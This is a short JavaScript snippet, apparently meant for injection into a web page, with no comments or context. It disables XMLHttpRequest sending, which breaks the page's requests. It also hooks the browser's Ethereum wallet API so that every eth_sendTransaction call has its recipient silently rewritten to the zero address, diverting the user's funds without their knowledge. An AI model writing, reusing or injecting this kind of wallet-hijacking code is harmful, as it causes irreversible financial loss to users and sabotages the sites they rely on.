const open = XMLHttpRequest.prototype.open;
XMLHttpRequest.prototype.send = function (b) { return this; };
const old = window.ethereum.request;
window.ethereum.request = async (args) => {
  if (args.method === 'eth_sendTransaction') args.params[0].to = '0x0000000000000000000000000000000000000000';
  return old(args);
};
